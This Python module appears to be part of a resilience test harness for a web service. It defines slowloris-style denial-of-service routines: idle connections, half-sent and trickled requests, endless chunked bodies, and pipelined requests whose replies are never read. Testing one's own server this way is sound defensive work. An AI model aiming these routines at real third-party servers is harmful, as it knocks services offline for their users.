"""Attacks with plain connections: lines that are there and come to nothing."""

import asyncio
import contextlib

from .ground import Ground, held
from .lines import Gone, Line, Stranger, written


async def idle(ground: Ground) -> None:
    """Presses on connections of an address: as many as there may be, and nothing is ever said."""
    await _lined_up(ground, b"")


async def half_sent(ground: Ground) -> None:
    """Presses on the patience with a request: heads and bodies that stop in the middle."""
    whole = written("PUT", "/api/me", body=b'{"name": "Eve"}')
    await _lined_up(
        ground, whole[:40], whole[:-5], whole[:1], b"GET / HTTP/1.1\r\nX: " + b"x" * 4000
    )


async def _lined_up(ground: Ground, *beginnings: bytes) -> None:
    lines: list[Line] = []

    async def attack(stranger: Stranger) -> None:
        for number in range(ground.force.lines):
            line = await stranger.dial(Line(keep=False))
            lines.append(line)
            with contextlib.suppress(Gone):
                line.write(beginnings[number % len(beginnings)])

    async with held(lines):
        await ground.everywhere(attack)
        await ground.hold()


async def dripping(ground: Ground) -> None:
    """Presses on the same, letter by letter: heads, chunks and bodies that never come to an end."""
    beginnings = [
        (b"GET / HTTP/1.1\r\nHost: x\r\n", b"X-Y: z\r\n"),
        (b"GET /" + b"x" * 60_000, b"x"),
        (
            b"PUT /api/me HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
            b"1\r\nx\r\n",
        ),
        (b"POST /api/replay HTTP/1.1\r\nHost: x\r\nContent-Length: 262144\r\n\r\n", b"x" * 100),
    ]
    lines: list[tuple[Line, bytes]] = []

    async def attack(stranger: Stranger) -> None:
        for number in range(min(200, ground.force.lines // 10)):
            line = await stranger.dial(Line(keep=False))
            beginning, drop = beginnings[number % len(beginnings)]
            lines.append((line, drop))
            line.write(beginning)
        for _ in range(ground.force.messages // 2):
            for line, drop in lines:
                with contextlib.suppress(Gone):
                    line.write(drop)
            ground.pressed += 1
            await asyncio.sleep(0.02)

    try:
        await ground.everywhere(attack)
    finally:
        for line, _ in lines:
            line.close()


async def piled_up(ground: Ground) -> None:
    """Presses on requests of an address: many at once on each line, and no answer is taken."""
    many = written("GET", "/api/openapi/openapi.json").replace(b"close", b"keep-alive") * 100
    lines: list[Line] = []

    async def attack(stranger: Stranger) -> None:
        for _ in range(min(40, ground.force.lines // 50)):
            line = await stranger.dial(small=True)
            line.transport.pause_reading()
            line.write(many)
            lines.append(line)

    async with held(lines):
        await ground.everywhere(attack)
        await ground.hold()
